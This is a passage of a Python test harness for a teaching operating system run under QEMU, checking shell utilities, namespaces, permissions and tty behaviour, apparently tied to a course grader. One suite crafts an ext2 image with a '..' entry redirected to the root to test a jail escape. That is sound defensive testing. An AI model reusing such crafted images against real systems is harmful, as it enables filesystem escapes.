    """The options and error paths of user/bin's programs that nothing else
    exercises: each of these failed before its fix (doc/decisions.md,
    "Tests": the user programs' audit)."""
    # cp truncates its target on open: onto itself it emptied the source.
    check("cp_refuses_to_copy_a_file_onto_itself_or_a_hard_link_of_it",
          ["echo keep > /tmp/cpself; ln /tmp/cpself /tmp/cplink",
           "cp /tmp/cpself /tmp/cpself; cp /tmp/cpself /tmp/cplink; cp /tmp/cpself /tmp/./",
           "echo status=$?; cat /tmp/cpself"],
          r"^cp: /tmp/cpself and /tmp/cpself are the same file$[\s\S]*"
          r"/tmp/cplink are the same file$[\s\S]*^status=1$\n^keep$")
    check("cp_r_of_a_directory_into_its_own_parent_keeps_its_files",
          ["mkdir -p /tmp/cpd/sub; echo one > /tmp/cpd/sub/f",
           "cd /tmp; cp -r cpd .; echo status=$?; cat cpd/sub/f"],
          r"are the same file$\n^status=1$\n^one$")
    check("cp_r_onto_a_file_says_once_that_it_is_not_a_directory",
          ["cp -r /tmp/cpd /tmp/cpself; echo status=$?"],
          r"^cp: /tmp/cpself: not a directory$\n^status=1$")
    # Each source is its own tree: the second is not copied into its own copy.
    check("cp_r_of_several_sources_copies_none_into_itself",
          ["mkdir -p /tmp/cm/t/sub /tmp/cm/u; cd /tmp/cm",
           "cp -r u t t/sub; echo status=$?; ls t/sub/t/sub"], r"^status=0$\n^u$")
    check("cp_r_copies_a_symlink_as_a_symlink",
          ["mkdir /tmp/cpn; ln -s .. /tmp/cpn/up",
           "cp -r /tmp/cpn /tmp/cpn2; echo status=$?; ls -l /tmp/cpn2"],
          r"^status=0$\n^l\S+\s+\d+\s+\d+ up -> \.\.$")
    check("rm_refuses_dot_and_dotdot",
          ["mkdir -p /tmp/rmd/in; echo x > /tmp/rmd/f",
           "rm -r /tmp/rmd/in/..; echo status=$?; rm -rf /tmp/rmd/in/.; ls /tmp/rmd"],
          r"^rm: /tmp/rmd/in/\.\.: refusing to remove \. or \.\.$\n^status=1$[\s\S]*^f$\n^in$")
    check("mkdir_p_accepts_the_root", ["mkdir -p / /tmp/mp/a; echo status=$?; ls /tmp/mp"],
          r"^status=0$\n^a$")
    # 4096M is 2^32 bytes: shifted in 32 bits it was 0, and the file emptied.
    check("truncate_refuses_a_size_that_does_not_fit",
          ["echo data > /tmp/tr; truncate -s 4096M /tmp/tr; echo status=$?; wc -c < /tmp/tr"],
          r"^usage: truncate[^\n]*\n^status=2$\n^\s*5$")
    check("grep_head_tail_report_a_read_error",
          ["grep x /tmp; echo status=$?", "head /tmp; echo status=$?",
           "tail -n 1 /tmp; echo status=$?"],
          r"^grep: /tmp: Is a directory$\n^status=2$[\s\S]*^head: /tmp: Is a directory$\n"
          r"^status=1$[\s\S]*^tail: /tmp: Is a directory$\n^status=1$")
    check("head_puts_no_blank_line_before_the_first_header",
          ["head -n 1 /nonexist /etc/passwd /etc/group"],
          r"No such file or directory$\n^==> /etc/passwd <==$\n^root:")
    # Lines are kept with their length: a NUL in one cut it short.
    check("tail_keeps_lines_with_nul_bytes_whole",
          ["tail -n 100000 /bin/ls | wc -c; wc -c < /bin/ls"], r"^\s*(\d+)\n\s*\1$")
    check("tail_n_larger_than_memory_prints_the_whole_file",
          ["tail -n 1000000000 /etc/passwd | wc -l; wc -l < /etc/passwd"],
          r"^\s*([1-9]\d*)\n\s*\1$")
    check("ln_names_the_missing_target", ["ln /tmp/nosuch /tmp/lnk"],
          r"^ln: /tmp/nosuch: No such file or directory$")
    check("pivot_names_both_paths", ["pivot /tmp /nonexist"],
          r"^pivot: pivot_root\(/tmp, /nonexist\): No such file or directory$")
    check("kill_takes_double_dash_and_trap",
          ["kill -- 99999; echo status=$?; kill -TRAP 99999; echo status=$?"],
          r"^kill: 99999: No such process$\n^status=1$\n^kill: 99999: No such process$\n"
          r"^status=1$")
    check("sleep_refuses_a_dot_alone", ["sleep .; echo status=$?"],
          r"^usage: sleep seconds$\n^status=2$")
    check("id_refuses_a_user_it_would_not_look_up", ["id student; echo status=$?"],
          r"^usage: id$\n^status=2$")
    # Output that could not be written makes the status 1, with a message,
    # whether the program looked (echo) or not (ls).
    check("a_closed_stdout_is_a_write_error_with_status_1",
          ["echo foo 1>&-; echo status=$?", "ls / 1>&-; echo status=$?"],
          r"^echo: write error: Bad file descriptor$\n^status=1$[\s\S]*"
          r"^ls: write error: Bad file descriptor$\n^status=1$")
    # A builtin's lost output is its own error, not the shell's at exit.
    check("a_builtins_write_error_is_the_builtins_not_the_shells",
          ["sh -c 'walk /tmp 1>&-; echo st=$?; exit 0'; echo status=$?"],
          r"^sh: walk: write error: Bad file descriptor$\n^st=1$\n^status=0$")
    # A level of recursion per level of the tree: PATH_MAX arrays on the
    # stack overflowed its 128 KiB at 60 levels (cp) and 120 (rm).
    check("cp_r_and_rm_r_go_130_levels_deep",
          ["mkdir -p /tmp/deep/" + "/".join(["a"] * 130),
           "cp -r /tmp/deep /tmp/deep2; echo status=$?; rm -r /tmp/deep /tmp/deep2; echo status=$?",
           "ls /tmp/deep2"], r"^status=0$\n^status=0$\n[\s\S]*^ls: /tmp/deep2: No such file")
    # Last: on the old cp, opening the FIFO waited for a writer for ever.
    check("cp_r_copies_a_fifo_as_a_fifo",
          ["mkdir /tmp/cpf; mkfifo /tmp/cpf/ff", "cp -r /tmp/cpf /tmp/cpf2; echo status=$?",
           "ls -l /tmp/cpf2"], r"^status=0$\n[\s\S]*^p\S+\s+\d+\s+\d+ ff$")


# ---------------------------------------------------------------- labs
def lab_harness_suite():
    """The grader believes only keyed lines, so a lab's test program must
    run on user/tests/lab.h; one that does not could never score."""
    def run():
        return [("labs/%s/test_program_uses_lab_h" % lab.num, lab.uses_harness(),
                 "" if lab.uses_harness() else "%s/test.c does not include \"lab.h\"" % lab.path)
                for lab in handout.labs() if lab.has_program()]
    return "labs/harness", run


# ---------------------------------------------------------------- robust (issue 9)
# The robust engineer's block: a kernel fault in the worst register state
# still panics in words, and the shell survives what used to lose it.
def fault_hostile_suite():
    def run():
        b = qemu.run(qemu.kernel_args("test=fault_hostile heapcheck panic=exit"), timeout=60)
        ok = "panic: kernel page fault at 0xdead0000" in b.output and \
            b.status == qemu.PANIC_STATUS
        return [("boot/panic_survives_df_set_and_a_wild_frame_pointer", ok,
                 "" if ok else "status %s\n%s" % (b.status, tail(b.output)))]
    return "boot/fault_hostile", run


def robust_shell_suite():
    """What used to lose the console for good: a builtin blocked on a FIFO,
    `wait` on a job that never ends, a revoked /dev, /tmp or console."""
    def run():
        res = []
        with qemu.Session(qemu.kernel_args("heapcheck panic=exit"), timeout=90) as s:
            if not s.expect(r"\$ $", timeout=30):
                return [("shell/robust/prompt_appears", False, tail(s.output))]

            def answers(name, line="echo still here", want="still here", detail=""):
                out = s.run(line, timeout=10) or ""
                ok = want in out
                res.append(("shell/" + name, ok, "" if ok else detail + tail(s.output)))
                return ok

            def fd_of(line):
                m = re.search(r"^fd (\d+)$", s.run(line) or "", re.M)
                return m.group(1) if m else "none"

            # A builtin blocked reading a FIFO nobody writes: ^C stops it.
            s.run("mkfifo /tmp/rf")
            fd = fd_of("ready %s r" % fd_of("walk /tmp/rf"))
            s.send("readfd %s\n" % fd)
            time.sleep(1.0)
            s.send("\x03")
            s.expect(r"\$ $", timeout=5)
            answers("ctrl_c_stops_a_builtin_blocked_on_a_fifo")
            # wait for a job that outlives us: ^C ends the wait, the job lives on.
            s.run("sleep 60 &")
            s.send("wait\n")
            time.sleep(1.0)
            s.send("\x03")
            s.expect(r"\$ $", timeout=5)
            answers("ctrl_c_ends_the_wait_builtin_but_not_the_job", "echo status=$?; ps",
                    "status=130")
            ok = re.search(r"sleeping\s+\d+ sleep$", s.output[-400:], re.M) is not None
            res.append(("shell/the_waited_for_job_survives_ctrl_c", ok, tail(s.output)))
            # /tmp revoked, then the shell exits: the next shell has a /tmp again.
            s.run("revoke %s" % fd_of("walk /tmp"))
            s.send("exit\n")
            s.expect(r"starting a new one\n[\s\S]*\$ $", timeout=10)
            answers("init_gives_the_next_shell_a_new_tmp", "cat /proc/self/ns; echo x > /tmp/x",
                    "/tmp ramfs")
            # /dev revoked by the shell itself: its console dies with it.
            fd = fd_of("walk /dev")
            start = time.monotonic()
            s.send("revoke %s\n" % fd)
            back = s.expect(r"starting a new one\n[\s\S]*\$ $", timeout=10)
            took = time.monotonic() - start
            res.append(("shell/revoking_dev_gives_a_new_shell_within_two_seconds",
                        back is not None and took < 2.0, "took %.1fs\n%s" % (took, tail(s.output))))
            answers("the_new_shell_has_a_console_and_a_dev", "echo back; ls /dev", "console")
            # Revoked by someone else while the shell sleeps reading the console.
            s.run("sh -c 'sleep 1; walk /dev; revoke 3' &")
            start = time.monotonic()
            back = s.expect(r"starting a new one\n[\s\S]*\$ $", timeout=10)
            took = time.monotonic() - start
            res.append(("shell/a_console_revoked_by_another_process_is_replaced_within_a_second",
                        back is not None and took < 2.5,
                        "took %.1fs (1 s of it the job's sleep)\n%s" % (took, tail(s.output))))
            answers("the_replaced_console_answers", "echo again", "again")
        return res
    return "shell/robust", run


def robust_suites():
    return [fault_hostile_suite(), robust_shell_suite()]


# ================================================================ authority (issue 14)
# The authority engineer's block: the issue's "Must show", typed into the
# console: root's shell starts `runas student sh`, the student tries what
# must be refused (revoke of /dev, of the old root after a pivot) and what
# must work (a bind over /bin in the student's own namespace), and root's
# shell must see none of it. Every rule one by one: user/tests/t_auth.c.
def authority_shell_suite():
    def run():
        res = []
        with qemu.Session(qemu.kernel_args("heapcheck panic=exit"), timeout=120) as s:
            if not s.expect(r"\$ $", timeout=30):
                return [("shell/authority/prompt_appears", False, tail(s.output))]

            check = shell_checker(s, res, "shell/authority/")

            def fd_of(line):
                m = re.search(r"^fd (\d+)$", s.run(line) or "", re.M)
                return m.group(1) if m else "none"

            check("runas_student_sh_then_id_prints_uid_1000", ["runas student sh", "id"],
                  r"^uid=1000\(student\) gid=1000\(student\)$")
            check("a_users_revoke_of_dev_is_permission_denied",
                  ["revoke %s" % fd_of("walk /dev")], r"revoke: Operation not permitted")
            check("the_console_keeps_working_after_it", ["echo still here", "ls /dev"],
                  r"^still here$[\s\S]*console")
            s.run("mkdir /tmp/sb")
            s.run("echo mine > /tmp/sb/marker")
            check("a_users_bind_over_bin_works_in_the_users_namespace",
                  ["bind %s /bin" % fd_of("walk /tmp/sb"), "walk /bin/marker"], r"^fd \d+$")
            check("a_users_bind_over_bin_is_invisible_to_roots_shell",
                  ["exit", "id", "walk /bin/marker", "ls /bin/id"],
                  r"^uid=0\(root\)[\s\S]*marker: No such file[\s\S]*^/bin/id$")
            check("unshare_and_pivot_as_a_user_work",
                  ["runas student sh", "unshare", "mkdir /tmp/nr", "mount ramfs none /tmp/nr",
                   "mkdir /tmp/nr/old", "pivot /tmp/nr /old /old/bin/sh", "pwd",
                   "/old/bin/ls /"], r"^/$[\s\S]*^old$")
            check("a_users_revoke_of_the_old_root_is_eperm",
                  ["revoke %s" % fd_of("walk /old")], r"revoke: Operation not permitted")
            check("revoke_of_the_users_own_ramfs_works",
                  ["revoke %s" % fd_of("fsopen ramfs"), "pwd"], r"^/$")
            check("root_keeps_its_shell_and_root_after_the_user_leaves",
                  ["exit", "exit", "id", "ls /bin/id", "cat /proc/self/ns"],
                  r"^uid=0\(root\)[\s\S]*^/bin/id$[\s\S]*^/dev devfs")
        return res
    return "shell/authority", run


def authority_login_suite():
    """Boot argument login=student: the console's first shell is the
    student's, in a namespace of its own, with its home as cwd."""
    def run():
        res = []
        with qemu.Session(qemu.kernel_args("heapcheck panic=exit login=student"),
                          timeout=60) as s:
            if not s.expect(r"\$ $", timeout=30):
                return [("shell/login/prompt_appears", False, tail(s.output))]
            out = (s.run("id") or "") + (s.run("pwd") or "")
            ok = re.search(r"^uid=1000\(student\)[\s\S]*^/tmp$", out, re.M) is not None
            res.append(("shell/login/boot_argument_login_starts_the_users_shell", ok, tail(out)))
            m = re.search(r"^fd (\d+)$", s.run("fsopen ramfs") or "", re.M)
            out = s.run("mkdir m; bind %s m; echo ok > m/f; cat m/f" % (m.group(1) if m else "x"))
            ok = bool(out and re.search(r"^ok$", out, re.M))
            res.append(("shell/login/the_users_login_shell_owns_its_namespace", ok, tail(out or "")))
            # "/" is root's: mkdir("/tmp") there is EACCES, not EEXIST.
            out = s.run("mkdir -p /tmp/deep/er; echo status=$?; ls /tmp/deep") or ""
            ok = re.search(r"^status=0$\n^er$", out, re.M) is not None
            res.append(("shell/login/mkdir_p_goes_through_directories_the_user_cannot_write", ok,
                        tail(out)))
            # open() cannot write a file it makes read-only (open(3), CAVEATS):
            # cp lends the copy owner write (a directory: rwx) until it is full.
            out = (s.run("echo y > ro444; chmod 444 ro444; cp ro444 ro444copy; echo status=$?; "
                         "ls -l ro444copy") or "") + \
                (s.run("mkdir -p rod/sub; echo x > rod/f; chmod 555 rod/sub rod; "
                       "cp -r rod rodcopy; echo status=$?; ls -l rodcopy") or "")
            ok = re.search(r"^status=0$\n^-r--r--r--\s+1\s+2 ro444copy$[\s\S]*^status=0$\n"
                           r"^-rw-r--r--\s+1\s+2 f$\n^dr-xr-xr-x\s+\d+\s+\d+ sub$", out,
                           re.M) is not None
            res.append(("shell/login/a_user_copies_read_only_files_and_directories", ok, tail(out)))
            out = s.run("mkdir shut; chmod 0 shut; rm -r shut; echo status=$?; ls shut") or ""
            ok = re.search(r"^status=0$\n^ls: shut: No such file", out, re.M) is not None
            res.append(("shell/login/rm_r_removes_an_empty_directory_it_cannot_read", ok,
                        tail(out)))
        return res
    return "shell/login", run


def authority_suites():
    return [authority_shell_suite(), authority_login_suite()]


# ================================================================ attach (issue 15, parts 1-2)
# The attach engineer's block: the issue's "Must show", typed into the
# console of a guest whose data disk (at /mnt) holds a program of its own,
# /mnt/bin/onlyondisk (a copy of echo: no such name in /bin): `bind -a
# /mnt/bin /bin` makes it runnable by name, and a read-only bind of /mnt
# at /ro refuses writes while /mnt takes them. Every rule one by one:
# user/tests/t_attach.c and t_union.c.
def attach_shell_suite():
    def run():
        res = []
        with tempfile.TemporaryDirectory() as tmp:
            tree, image = os.path.join(tmp, "tree"), os.path.join(tmp, "disk.img")
            os.makedirs(os.path.join(tree, "bin"))
            shutil.copy(os.path.join(qemu.BUILD, "root", "bin", "echo"),
                        os.path.join(tree, "bin", "onlyondisk"))
            os.chmod(os.path.join(tree, "bin", "onlyondisk"), 0o755)
            with open(os.path.join(tree, "hello.txt"), "w") as f:
                f.write("hello from the disk\n")
            mkfs(image, 4, 1024, tree)
            with qemu.Session(qemu.kernel_args("heapcheck panic=exit", [None, image]),
                              timeout=120) as s:
                if not s.expect(r"\$ $", timeout=30):
                    return [("shell/attach/prompt_appears", False, tail(s.output))]
                check = shell_checker(s, res, "shell/attach/")
                check("a_disk_program_is_not_found_by_name_before_the_bind",
                      ["onlyondisk before"], r"onlyondisk: command not found")
                check("bind_a_mnt_bin_bin_runs_a_disk_program_by_name",
                      ["bind -a /mnt/bin /bin", "onlyondisk from the data disk"],
                      r"^from the data disk$")
                check("the_union_bin_lists_both_members_programs",
                      ["ls /bin | grep -c '^onlyondisk$'", "ls /bin | grep -c '^ls$'"],
                      r"^1$[\s\S]*^1$")
                check("proc_ns_shows_the_union_member", ["cat /proc/self/ns"],
                      r"^/bin ext2 /dev/hd1 bind after$")
                check("unbind_bin_takes_the_member_away_again",
                      ["unbind /bin", "onlyondisk after", "ls /bin/ls"],
                      r"^fd \d+$[\s\S]*onlyondisk: command not found[\s\S]*^/bin/ls$")
                check("a_read_only_bind_of_mnt_at_ro_refuses_writes",
                      ["mkdir /ro", "bind -r /mnt /ro", "echo no > /ro/new"],
                      r"/ro/new: Read-only file system")
                check("while_mnt_takes_them_and_ro_shows_them",
                      ["echo yes > /mnt/new", "cat /ro/new", "cat /ro/hello.txt"],
                      r"^yes$[\s\S]*^hello from the disk$")
                check("proc_ns_shows_ro", ["cat /proc/self/ns"], r"^/ro ext2 /dev/hd1 ro$")
                check("rm_through_ro_is_refused_and_through_mnt_works",
                      ["rm /ro/new", "rm /mnt/new", "ls /ro"],
                      r"Read-only file system[\s\S]*^hello\.txt$")
                check("a_noexec_bind_refuses_to_run_a_program",
                      ["mkdir /nx", "bind -n /mnt /nx", "/nx/bin/onlyondisk x",
                       "/mnt/bin/onlyondisk runs"], r"Permission denied[\s\S]*^runs$")
                m = re.search(r"^fd (\d+)$", s.run("fsopen ramfs") or "", re.M)
                fd = m.group(1) if m else "none"
                check("the_builtin_takes_an_fd_and_options_too",
                      ["mkdir /tmp/u", "bind -b -c %s /tmp/u" % fd, "echo made > /tmp/u/made",
                       "walkat %s made" % fd, "bind -x %s /tmp/u" % fd],
                      r"^fd \d+$[\s\S]*usage: bind \[-a\|-b\]")
                # A wrong count and a wrong option print the same usage line.
                check("the_builtin_has_one_usage_line", ["bind %s" % fd, "bind -x %s /tmp/u" % fd],
                      r"^sh: usage: bind ([^\n]*)$\n(?:.*\n)*^sh: usage: bind \1$")
        return res
    return "shell/attach", run


def attach_suites():
    return [attach_shell_suite()]


# ================================================================ robust2 (ATTACK2.md)
# The robust2 engineer's block: the races of a call asleep inside ext2
# (user/tests/r2race.c: many rounds, so a longer time limit than a t_*.c
# suite's), and the findings that need a disk image as /dev/hd1
# (user/tests/r2disk.c). The others are t_bounds.c, booted like every t_*.c.
def r2disk_boot(what, image):
    b = qemu.run(qemu.kernel_args("heapcheck panic=exit run=/bin/r2disk %s" % what, [None, image]),
                 timeout=120)
    res = parse_results("r2disk/", b.output)
    if "panic:" in b.output:
        res.append(("r2disk/%s/kernel_did_not_panic" % what, False, tail(b.output, 25)))
    if b.guest_code is None or not re.search(r"^r2disk: done", b.output, re.M):
        res.append(("r2disk/%s/suite_completes" % what, False,
                    "status %s, timed out %s\n%s" % (b.status, b.timed_out, tail(b.output))))
    return res


def robust2_disk_suite():
    """Finding 5 (and 11) on a clean image, which e2fsck must find clean
    after the guest; finding 6 on an image whose jail/a/.. entry is made
    to name the root directory (as a crafted image can)."""
    name = "r2disk"

    def run():
        with tempfile.TemporaryDirectory() as tmp:
            clean = os.path.join(tmp, "clean.img")
            mkfs(clean, 8, 1024)
            res = r2disk_boot("twoinst", clean)
            res.append(fsck_result(name + "/e2fsck_clean_after_a_second_instance_was_refused",
                                   clean))
            tree, evil = os.path.join(tmp, "tree"), os.path.join(tmp, "dotdot.img")
            os.makedirs(os.path.join(tree, "jail", "a"))
            os.makedirs(os.path.join(tree, "secret"))
            with open(os.path.join(tree, "secret", "key.txt"), "w") as f:
                f.write("secret\n")
            mkfs(evil, 4, 1024, tree)
            for cmd in ("unlink jail/a/..", "link <2> jail/a/.."):
                r = e2tool("debugfs", "-w", "-R", cmd, evil)
                if r.returncode != 0:
                    return res + [(name + "/debugfs_crafts_the_image", False,
                                   (r.stdout + r.stderr).decode())]
            return res + r2disk_boot("dotdot", evil)
    return name, run


def robust2_suites():
    return [guest_suite("r2race", timeout=300), robust2_disk_suite()]


# ================================================================ guestshell (issue 11)
# The guestshell engineer's block: the shell's line editor (history, editing,
# Tab completion) over the serial line and through the PS/2 keyboard, man,
# uname, head -c, a writer ending quietly on EPIPE, init's report of how the
# shell ended, and the path in cd's error. The console's raw mode itself is
# user/tests/t_tty.c.
def guestshell_suite():
    def run():
        res = []
        with qemu.Session(qemu.kernel_args("panic=exit"), timeout=90) as s:
            if not s.expect(r"\$ $", timeout=30):
                return [("shell/edit/prompt_appears", False, tail(s.output))]

            def keys(text, timeout=15):
                """Type text (keys, ending with Enter), wait for the next prompt."""
                start = len(s.output)
                s.send(text)
                m = s.expect(r"\$ $", timeout)
                return None if m is None else s.output[start:m.start()]

            def check(name, text, regex, timeout=15):
                out = keys(text, timeout)
                ok = out is not None and re.search(regex, out, re.M) is not None
                res.append(("shell/edit/" + name, ok, "" if ok else "want /%s/ in:\n%s" %
                            (regex, tail(s.output if out is None else out, 30))))
                return out

            def silent(name, line):
                """line prints nothing at all: only its echo comes before the prompt."""
                out = keys(line + "\r")
                rest = out.split("\n")[1:-1] if out is not None else ["(no prompt)"]
                res.append(("shell/edit/" + name, rest == [], tail("\n".join(rest))))

            keys("echo recall-me\r")
            check("up_arrow_recalls_the_previous_command", "\x1b[A\r", r"^recall-me$")
            check("down_arrow_brings_back_the_line_being_typed",
                  "echo typed-line\x1b[A\x1b[B\r", r"^typed-line$")
            check("left_arrow_then_typing_inserts_in_the_middle", "echo ac\x1b[Db\r", r"^abc$")
            check("backspace_in_the_middle_erases_before_the_cursor", "echo abxc\x1b[D\x7f\r",
                  r"^abc$")
            check("ctrl_a_goes_to_the_start_ctrl_e_to_the_end", "cho ahead\x01e\x05ed\r",
                  r"^aheaded$")
            check("ctrl_u_erases_only_what_is_before_the_cursor",
                  "junk echo kept" + "\x1b[D" * 9 + "\x15\r", r"^kept$")
            out = check("tab_completes_a_command_name", "ec\tcompleted\r", r"^completed$")
            ok = out is not None and "echo completed" in out
            res.append(("shell/edit/tab_shows_the_completed_name", ok, tail(out or s.output)))
            keys("echo pathdata > /tmp/unique-name.txt\r")
            check("tab_completes_a_path", "cat /tmp/uniq\t\r", r"^pathdata$")
            # Ambiguous: the first Tab completes what the names share, the
            # second lists them; the line is redrawn for typing on.
            keys("touch /tmp/cand-one /tmp/cand-two\r")
            s.send("ls /tmp/ca\t\t")
            listed = s.expect(r"cand-one\s+cand-two\n.*\$ ls /tmp/cand-", timeout=10)
            out = keys("one\r") if listed else None
            ok = listed is not None and out is not None and re.search(r"^/tmp/cand-one$", out, re.M)
            res.append(("shell/edit/a_second_tab_lists_the_candidates", bool(ok),
                        tail(s.output, 20)))
            check("history_lists_the_lines_typed", "history\r", r"^\s+\d+\s+echo recall-me$")
            # After a line edited raw, the command reads cooked input: the tty
            # echoes and edits it (backspace) and ^D ends it.
            s.send("ca\t\r")
            s.expect(r"cat \n", timeout=10)
            if check("a_command_after_an_edited_line_reads_cooked_input", "hel\x7flo\r\x04",
                     r"^hel\x08 \x08lo\nhelo$") is None:
                s.send("\x03")             # cat never saw ^D: end it, go on with the rest
                s.expect(r"\$ $", timeout=5)
            # man: a screenful, then --More--; q ends it. In a pipe, no pager.
            s.send("man walk\r")
            synopsis = s.expect(r"int walk\(int dirfd, const char \*path, int flags\);", 10)
            more = s.expect(r"--More--", 10) if synopsis else None
            s.send("q" if more else "\x03")  # ^C: whatever went wrong, end it
            back = s.expect(r"\$ $", 10)
            back = back if more else None
            res.append(("shell/edit/man_walk_shows_the_synopsis_and_pages", back is not None,
                        tail(s.output, 30)))
            out = check("man_into_a_pipe_prints_straight_through", "man 2 walk | tail -n 2\r",
                        r"RESOLVE_BENEATH\.$")
            if out is not None and "--More--" in out:
                res.append(("shell/edit/man_into_a_pipe_does_not_page", False, tail(out)))
            check("uname_names_the_system", "uname; uname -a\r",
                  r"^Orthos$\n^Orthos orthos \S+ i686$")
            check("cd_names_the_missing_path", "cd /nope\r",
                  r"^sh: cd: /nope: No such file or directory$")
            # A line longer than the shell takes is refused, as from a script,
            # not cut short and run. Typed in pieces, as a person types.
            for i in range(0, 1100, 50):
                s.send(("echo " + "x" * 1100)[i:i + 50])
                time.sleep(0.02)
            check("a_line_too_long_is_refused_not_run_cut_short", "x" * 5 + "\r",
                  r"^sh: line longer than 1024 bytes$")
            # Typed ahead while a command runs (the shell reads none of it
            # meanwhile), a line of 1000 bytes is kept whole by the tty.
            # The prompt after sleep comes before the line is run, so this
            # waits for wc's count and the prompt after it, not any prompt
            # (on a loaded host the first one was taken for the second).
            s.send("sleep 1\r")
            time.sleep(0.2)
            start = len(s.output)
            s.send("echo %s | wc -c\r" % ("p" * 1000))
            m = s.expect(r"^\s*(\d+)\n[^\n]*\$ $", 15)
            res.append(("shell/edit/a_line_typed_ahead_during_a_command_arrives_whole",
                        m is not None and m.group(1) == "1001", tail(s.output[start:], 30)))
            check("head_c_prints_the_first_bytes", "echo abcdef | head -c 3; echo\r", r"^abc$")
            silent("cat_into_head_c_0_prints_nothing", "cat /bin/ls | head -c 0")
            silent("a_writer_stopped_by_epipe_is_not_reported",
                   "cat /bin/ls | head -n 1 > /dev/null")
            check("init_reports_exit_3_as_3", "exit 3\r",
                  r"^init: the shell exited with status 3; starting a new one$")
        return res
    return "shell/edit", run


def tty_flow_suite():
    """Input typed ahead past the tty's 4096 bytes is held in the serial
    port (and QEMU, and the pipe into it) until a reader makes room, not
    dropped; ^C typed behind it still ends the job (kernel/dev/tty.c)."""
    def run():
        res = []
        with qemu.Session(qemu.kernel_args("panic=exit pidmax=300"), timeout=120) as s:
            def ctrl_c_job(cmd, ready, wait, back, want, name):
                """Type cmd, wait for its line ready, type ^C: the prompt is
                back and the job's output holds want."""
                start = len(s.output)
                s.send(cmd + "\r")
                ok = s.expect(ready, timeout=wait) is not None
                time.sleep(0.3)
                s.send("\x03")
                ok = ok and s.expect(r"\$ $", timeout=back) is not None
                ok = ok and want in s.output[start:]
                res.append(("shell/tty/" + name, ok, "" if ok else tail(s.output[start:], 6)))

            if not s.expect(r"\$ $", timeout=30):
                return [("shell/tty/prompt_appears", False, tail(s.output))]
            lines = "".join("%03d%s\n" % (i, "q" * 96) for i in range(200))   # 20000 bytes
            start = len(s.output)
            s.send("sleep 1; wc -c\r")
            time.sleep(0.3)
            s.send(lines + "\x04")
            m = s.expect(r"^\s*(\d+)\n.*\$ $", timeout=60)
            got = s.output[start:]
            ok = m is not None and m.group(1) == "20000" and "199" + "q" * 96 in got
            res.append(("shell/tty/twenty_thousand_bytes_typed_ahead_all_arrive", ok,
                        "" if ok else tail(got, 8)))
            # A job that reads nothing: the input waits at most the hold
            # time, then ^C behind it gets through, and throws the typed-
            # ahead input away (none of it runs as commands).
            start = len(s.output)
            s.send("sleep 60\r")
            time.sleep(0.5)
            t0 = time.monotonic()
            s.send(lines + "\x03")
            back = s.expect(r"\$ $", timeout=30)
            waited = time.monotonic() - t0
            out = s.run("echo after-the-interrupt") if back else None
            ok = back is not None and waited < 30 and out is not None and \
                "after-the-interrupt" in out and "not found" not in s.output[start:]
            res.append(("shell/tty/ctrl_c_behind_a_full_buffer_ends_the_job", ok,
                        "" if ok else "%.1fs\n%s" % (waited, tail(s.output[start:], 8))))
            # One cooked line longer than the ring: nothing is ready for the
            # reader, so holding it back would wait for ever; it is taken and
            # cut (4095 bytes and its newline), as before flow control.
            start = len(s.output)
            s.send("wc -c\r")
            time.sleep(0.3)
            s.send("L" * 6000 + "\n\x04")
            m = s.expect(r"^\s*(\d+)\n.*\$ $", timeout=30)
            ok = m is not None and m.group(1) == "4096"
            res.append(("shell/tty/a_line_longer_than_the_buffer_is_cut_not_held", ok,
                        "" if ok else tail(s.output[start:], 4)))
            # Cooked input: ^D after text hands the text to the reader and
            # does not end the input (typed while wc reads); backspace edits
            # only the line being typed, never one already handed over (typed
            # ahead during a sleep); each read takes one line of those typed
            # ahead (head takes the first, the shell the next). The pauses
            # only decide whether a wrong kernel is caught (the kmutants
            # tty_eof_on_any_line, tty_backspace_into_ready_line and
            # tty_read_many_lines): the kernel passes at any speed.
            for name, cmd, pieces, want in [
                    ("ctrl_d_after_text_hands_it_over_without_ending_the_input", "wc -c",
                     ["abc\x04", "def\n\x04"], "7"),
                    ("backspace_does_not_reach_into_a_line_handed_over", "sleep 1; wc -c",
                     ["one\n\x7f\x7fX\n\x04"], "6")]:
                start = len(s.output)
                s.send(cmd + "\r")
                for piece in pieces:
                    time.sleep(0.3)
                    s.send(piece)
                m = s.expect(r"^\s*(\d+)\n.*\$ $", timeout=30)
                ok = m is not None and m.group(1) == want
                res.append(("shell/tty/" + name, ok, "" if ok else tail(s.output[start:], 6)))
            start = len(s.output)
            s.send("sleep 1; head -n 1\r")
            time.sleep(0.3)
            s.send("first\necho second-ran\n")
            m = s.expect(r"^second-ran\n.*\$ $", timeout=15)
            ok = m is not None and re.search(r"^first$", s.output[start:], re.M) is not None
            res.append(("shell/tty/a_cooked_read_takes_one_line_of_those_typed_ahead", ok,
                        "" if ok else tail(s.output[start:], 6)))
            # Sessions: a user's process of a session of its own tries to
            # take the console from root's job (`t_users steal`: tcsetpgrp
            # of nobody and of its own group, a read); root's ^C still ends
            # the job. (The old kernel let it: the ^C then killed nothing.)
            ctrl_c_job("t_users steal", r"^the job sleeps$", 15, 10,
                       "thief: tcsetpgrp(0) Operation not permitted, tcsetpgrp(its own group) "
                       "Operation not permitted, read I/O error",
                       "roots_ctrl_c_reaches_roots_job_after_another_session_tried")
            # A job's group that ends in front leaves none there: ^C must not
            # reach a new group given its number after the pids wrap
            # (pidmax=300; `t_tty ctrl_c`). The old kernel killed it.
            ctrl_c_job("t_tty ctrl_c", r"waits for \^C$", 30, 15,
                       "t_tty: ^C killed no later group",
                       "ctrl_c_reaches_no_later_group_of_an_ended_front_groups_number")
        return res
    return "shell/tty", run


def ps2_keyboard_suite():
    """The same editing keys typed on the PS/2 keyboard (QEMU's sendkey):
    the driver turns the gray keys into the serial terminal's sequences.
    This boot has a VGA card (SeaBIOS sets its text mode; qboot would not),
    and the screen, read through the monitor, must show what was typed: the
    console draws only when it finds a card (vga.c)."""
    def run():
        with tempfile.TemporaryDirectory() as tmp:
            sock = os.path.join(tmp, "monitor")
            args = qemu.kernel_args("panic=exit", firmware=[])
            args[args.index("-monitor") + 1] = "unix:%s,server=on,wait=off" % sock
            args[args.index("-vga") + 1] = "std"
            with qemu.Session(args, timeout=60) as s:
                if not s.expect(r"\$ $", timeout=30):
                    return [("shell/ps2/prompt_appears", False, tail(s.output))]
                import socket
                mon = socket.socket(socket.AF_UNIX)
                mon.connect(sock)
                mon.settimeout(5)

                def press(*names):
                    for name in names:
                        mon.sendall(("sendkey %s 20\n" % name).encode())
                        time.sleep(0.06)

                press(*"echo".replace("", " ").split(), "spc", "a", "c", "ret")
